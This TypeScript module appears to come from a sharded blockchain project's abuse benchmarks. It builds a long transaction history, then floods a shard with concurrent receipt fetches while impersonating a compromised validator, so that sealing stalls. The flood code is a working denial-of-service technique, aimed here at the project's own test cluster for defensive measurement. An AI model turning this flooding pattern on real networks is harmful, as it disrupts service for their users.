// Attack: stall a shard's sealing with receipt pulls. A peer (here: one holding the validator key of
// ANOTHER shard, i.e. a compromised validator, which passes any peer-level admission) asks shard 0
// for its receipts to shard 1 from seq 0, many times, several at a time. Each answer may need old
// receipt groups rebuilt from whole epochs' tx records; the history built first (every epoch: many
// local transfers and one to shard 1) makes each rebuild load a large epoch for one receipt.
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { privateKeyFromRaw, privateKeyToProtobuf } from '@libp2p/crypto/keys';
import { loadKeyFile } from '../../src/core/keyfile.js';
import { toHex } from '../../src/core/bytes.js';
import { encodeFetchRequest, fetchProtocol, FetchKind } from '../../src/gossip/fetch.js';
import { createP2PNode, type P2PNode } from '../../src/gossip/p2p.js';
import { validatorKeyPath } from '../../src/node/network-dir.js';
import { encodeSignedTx, signTransfer } from '../../src/shard/tx.js';
import { getJson, postJson, sleep, until, type SecCluster } from '../../test/security/harness.js';
import type { AbuseModule } from '../bench-abuse.js';

export const TARGET = '0';
export const DST = '1';

/**
 * History on the target: for `epochs` epochs, each of its accounts sends `localPerEpoch` transfers
 * to another of its accounts, and one account one transfer to an account of DST. Resolves once all
 * of it is committed. Returns the number of transfers to DST.
 */
export async function buildHistory(c: SecCluster, o: { epochs: number; localPerEpoch: number }): Promise<number> {
  const all = c.accounts();
  const mine = all.filter((a) => a.home === TARGET);
  const there = all.find((a) => a.home === DST)!;
  const keys = new Map(mine.map((a) => [a.address, loadKeyFile(a.file).keyPair]));
  const nonces = new Map<string, bigint>();
  for (const a of mine) nonces.set(a.address, BigInt((await getJson(`${c.url(TARGET)}/v1/account/${a.address}`)).body.nonce));
  let remote = 0;
  const pace = mine[1] ?? mine[0]!;
  for (let e = 0; e < o.epochs; e++) {
    // stay inside the mempool's nonce window (64) when the shard seals late (a loaded machine)
    await until('the shard to commit the history so far', 30_000, async () => {
      const n = BigInt((await getJson(`${c.url(TARGET)}/v1/account/${pace.address}`)).body.nonce);
      return nonces.get(pace.address)! - n + BigInt(o.localPerEpoch) <= 64n ? true : undefined;
    }, 50);
    const txs: string[] = [];
    mine.forEach((a, i) => {
      const k = keys.get(a.address)!;
      const n = i === 0 ? 1 : o.localPerEpoch;
      for (let j = 0; j < n; j++) {
        const to = i === 0 ? there.address : mine[(i + 1) % mine.length]!.address;
        const nonce = nonces.get(a.address)!;
        const st = signTransfer({ network: c.genesis.networkId, from: k.publicKey, to: Buffer.from(to, 'hex'), amount: 1n, fee: 1n, nonce, ts: BigInt(Date.now()) }, k.secretKey);
        txs.push(toHex(encodeSignedTx(st)));
        nonces.set(a.address, nonce + 1n);
      }
    });
    const r = await postJson(`${c.url(TARGET)}/v1/tx`, { txs }, 20_000);
    if (r.status !== 200 || r.body.accepted !== txs.length) throw new Error(`history: ${r.body.accepted}/${txs.length} accepted (${JSON.stringify(r.body.results?.find((x: { status: string }) => x.status !== 'accepted'))})`);
    remote++;
    await sleep(c.genesis.epochMs);
  }
  const last = mine[0]!;
  await until('the history to commit', 30_000, async () => {
    const a = (await getJson(`${c.url(TARGET)}/v1/account/${last.address}`)).body;
    return BigInt(a.nonce) === nonces.get(last.address) ? true : undefined;
  });
  return remote;
}

/** A libp2p peer holding the validator key of shard `as` (a compromised validator), dialling `shard`. */
export async function compromisedValidator(c: SecCluster, shard: string, as: string): Promise<P2PNode> {
  const k = loadKeyFile(validatorKeyPath(c.netDir, as)).keyPair;
  const seed = k.secretKey.length === 64 ? k.secretKey : Buffer.concat([k.secretKey, k.publicKey]);
  const file = join(c.tmp, `validator-${as}-${Math.random().toString(36).slice(2)}.peerkey`);
  writeFileSync(file, privateKeyToProtobuf(privateKeyFromRaw(seed)), { mode: 0o600 });
  chmodSync(file, 0o600);
  const s = c.byShard(shard);
  return createP2PNode({ peerKeyFile: file, networkId: c.genesis.networkId, peers: [`/ip4/${s.p2pHost}/tcp/${s.p2pPort}`], heartbeatMs: 200, dialBackoff: { initialMs: 100, maxMs: 1000 } });
}

/**
 * Sends `total` receipt fetches (TARGET's receipts to DST from seq 0), `concurrency` at a time (or
 * until `deadline`). Resolves to the number sent and how many came back non-empty.
 */
export async function receiptPulls(c: SecCluster, o: { total: number; concurrency: number; deadline?: number }): Promise<{ sent: number; answered: number }> {
  const p2p = await compromisedValidator(c, TARGET, '2');
  try {
    const peer = await until('the attacker to connect', 20_000, () => p2p.connectedPeers()[0]);
    const req = encodeFetchRequest({ kind: FetchKind.receipts, path: TARGET + DST, epoch: 0 });
    let sent = 0;
    let answered = 0;
    const worker = async (): Promise<void> => {
      while (sent < o.total && (o.deadline === undefined || Date.now() < o.deadline)) {
        sent++;
        try {
          const b = await p2p.request(peer, fetchProtocol(c.genesis.networkId), req, { timeoutMs: 60_000 });
          if (b.length > 0) answered++;
        } catch {
          // refused or timed out: counts as sent
        }
      }
    };
    await Promise.all(Array.from({ length: o.concurrency }, worker));
    return { sent, answered };
  } finally {
    await p2p.close();
  }
}

const mod: AbuseModule = {
  name: 'receipts-stall',
  what: 'a compromised validator of shard 2 asks shard 0 for its receipts to shard 1 from seq 0, 8 at a time, after 40 epochs of history',
  target: TARGET,
  async setup(c) {
    await buildHistory(c, { epochs: 40, localPerEpoch: 20 });
  },
  async run(c, seconds) {
    const r = await receiptPulls(c, { total: 1_000_000, concurrency: 8, deadline: Date.now() + seconds * 1000 });
    return r.sent;
  },
};
export default mod;
